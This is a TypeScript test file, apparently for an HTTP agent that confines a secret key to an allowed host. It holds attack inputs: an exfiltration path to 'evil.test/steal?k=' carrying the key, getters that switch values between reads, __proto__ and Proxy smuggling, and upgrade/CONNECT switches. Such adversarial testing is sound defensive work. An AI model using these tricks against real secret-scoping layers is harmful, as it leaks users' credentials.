  const shifty = (base: Dispatcher.DispatchOptions, field: string, reads: number, benign: unknown, hostile: unknown): Dispatcher.DispatchOptions => {
    let count = 0
    const options = { ...base }
    Object.defineProperty(options, field, { enumerable: true, configurable: true, get: () => (count++ < reads ? benign : hostile) })
    return options
  }
  const READS = [1, 2, 3, 4, 5, 6]
  const base = (ph: string, path = "/"): Dispatcher.DispatchOptions => ({
    origin: `https://api.allowed.test:${special.port}`,
    path,
    method: "GET",
    headers: { "x-key": ph, authorization: `Bearer ${ph}` }
  })
  const carries = (r: { url: string; rawHeaders: ReadonlyArray<string>; body: Buffer }) =>
    holds(`${r.url}\n${r.rawHeaders.join("\n")}\n${r.body.toString("latin1")}`)

  it("servername: the value never goes out on a connection whose SNI names another host", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    for (const reads of READS) {
      const since = special.received.length
      const collected = await dispatchV7(box.agent, shifty(base(box.env.KEY!), "servername", reads, undefined, "evil.test"))
      if (collected.error !== undefined) expect(holds(observable(collected.error))).toBe(false)
      for (const r of specialSince(since)) {
        expect([reads, r.servername, carries(r)]).toEqual([reads, r.servername, r.servername === "evil.test" ? false : carries(r)])
      }
    }
  })

  it("path: the value never goes into an absolute-form path naming another host", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    for (const reads of READS) {
      const since = special.received.length
      const collected = await dispatchV7(
        box.agent,
        shifty(base(box.env.KEY!), "path", reads, `/ok?k=${box.env.KEY}`, `https://evil.test/steal?k=${box.env.KEY}`)
      )
      if (collected.error !== undefined) expect(holds(observable(collected.error))).toBe(false)
      for (const r of specialSince(since)) {
        const absolute = !r.url.startsWith("/")
        expect([reads, r.url, carries(r)]).toEqual([reads, r.url, absolute ? false : carries(r)])
      }
    }
  })

  it("an own __proto__ field (plain, or a Proxy that hides it from a first look) cannot slip getters in behind the copy", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    for (const reads of READS) {
      for (const [field, benign, hostile] of [["servername", undefined, "evil.test"], ["path", "/", `https://evil.test/?k=${box.env.KEY}`], ["upgrade", undefined, "websocket"]] as const) {
        const proto = () => shifty({ path: "/" } as Dispatcher.DispatchOptions, field, reads, benign, hostile)
        const plain = base(box.env.KEY!)
        delete (plain as { path?: string }).path
        // what `JSON.parse` or a spread of such an object yields: a data property named "__proto__"
        Object.defineProperty(plain, "__proto__", { enumerable: true, configurable: true, writable: true, value: proto() })
        // a Proxy that denies the field to a first look and shows it to the next
        const target = base(box.env.KEY!)
        delete (target as { path?: string }).path
        let looks = 0
        const hidden = proto()
        const proxy = new Proxy(target, {
          ownKeys: (t) => [...Reflect.ownKeys(t), "__proto__"],
          getOwnPropertyDescriptor: (t, key) =>
            key !== "__proto__" ? Reflect.getOwnPropertyDescriptor(t, key)
            : looks++ === 0 ? undefined
            : { value: hidden, enumerable: true, configurable: true, writable: true },
          get: (t, key) => (key === "__proto__" ? hidden : Reflect.get(t, key))
        })
        for (const options of [plain, proxy]) {
          const since = special.received.length
          const collected = await dispatchV7(box.agent, options)
          if (collected.error !== undefined) expect(holds(observable(collected.error))).toBe(false)
          if (collected.upgraded !== undefined) expect(bytesHold(collected.upgraded, VALUE)).toBe(false)
          for (const r of specialSince(since)) {
            const elsewhere = r.servername === "evil.test" || !r.url.startsWith("/") || r.kind === "upgrade"
            expect([field, reads, carries(r)]).toEqual([field, reads, elsewhere ? false : carries(r)])
          }
        }
      }
    }
  })

  for (const [field, benign, hostile, kind] of [["upgrade", undefined, "websocket", "upgrade"], ["method", "GET", "CONNECT", "connect"]] as const) {
    it(`${field}: a request that turns into ${kind === "upgrade" ? "an upgrade" : "a CONNECT"} never carries the value`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
      for (const reads of READS) {
        const since = special.received.length
        const collected = await dispatchV7(box.agent, shifty(base(box.env.KEY!, "/ws"), field, reads, benign, hostile))
        if (collected.error !== undefined) expect(holds(observable(collected.error))).toBe(false)
        if (collected.upgraded !== undefined) expect([reads, bytesHold(collected.upgraded, VALUE)]).toEqual([reads, false])
        for (const r of specialSince(since)) {
          expect([reads, r.kind, carries(r)]).toEqual([reads, r.kind, r.kind === kind ? false : carries(r)])
        }
      }
    })
  }
})

describe("14. echo forms found after the review", () => {
  let raw: RawTls
  beforeAll(async () => {
    // echoes x-name as a response header NAME, and x-html HTML-escaped in the body
    raw = await startRawTls((head, socket) => {
      const name = headerOf(head, "x-name")
      const html = headerOf(head, "x-html").replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#x27;")
      const body = `<p>unknown key ${html}</p>`
      socket.end(`HTTP/1.1 200 OK\r\n${name}: 1\r\ncontent-type: text/html\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`, "latin1")
    })
  })
  afterAll(() => raw.close())

  const nameValue = "sk-live-MiXeDcAsE"
  const htmlValue = `sk-live-<"'&>-html`
  for (const [label, options] of [["legacy handler (plain agent)", {}], ["v7 handler (maxRedirections: 3)", { maxRedirections: 3 }]] as const) {
    it(`a value echoed as a header name (undici lower-cases it), or HTML-escaped, is scrubbed — ${label}`, async () => {
      const box = await world.sandbox({ name: [nameValue, ["api.allowed.test"]], html: [htmlValue, ["api.allowed.test"]] }, options)
      const response = await request(raw.url("api.allowed.test", "/"), {
        headers: { "x-name": box.env.NAME!, "x-html": box.env.HTML! },
        dispatcher: box.agent
      })
      const body = await response.body.text()
      const head = raw.heads.at(-1)!
      expect([headerOf(head, "x-name"), headerOf(head, "x-html")]).toEqual([nameValue, htmlValue])
      expect(Object.keys(response.headers).join("\n").toLowerCase()).not.toContain(nameValue.toLowerCase())
      expect(body).not.toContain("sk-live-&lt;")
      expect(body).toContain(box.env.HTML)
    })
  }
})
